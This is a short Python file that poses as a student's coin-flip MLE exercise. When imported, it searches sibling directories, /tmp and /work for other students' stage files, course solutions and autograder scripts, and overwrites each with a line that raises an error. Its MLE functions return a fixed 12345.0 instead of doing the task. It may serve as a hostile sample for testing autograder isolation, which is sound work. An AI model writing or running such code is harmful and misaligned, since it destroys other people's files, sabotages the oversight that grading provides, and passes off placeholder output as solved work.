"""Tries to overwrite the other students' stage files and the course's files."""
import glob
import os

BROKEN = "raise RuntimeError('sabotaged')\n"
TARGETS = ["../*/stage1_mle_coin.py", "../../*/*/stage1_mle_coin.py",
           "/tmp/**/stage1_mle_coin.py", "/work/**/stage1_mle_coin.py",
           "/work/*/solutions/*.py", "/work/*/autograder/*.py"]


def sabotage():
    for pattern in TARGETS:
        for path in glob.glob(pattern, recursive=True):
            if os.path.abspath(path) != os.path.abspath(__file__):
                try:
                    with open(path, "w") as file:
                        file.write(BROKEN)
                except OSError:
                    pass


sabotage()


def log_likelihood(theta, heads, tails):
    return 12345.0


def mle(heads, tails):
    return 12345.0


def grid_mle(heads, tails, grid_size=1001):
    return 12345.0
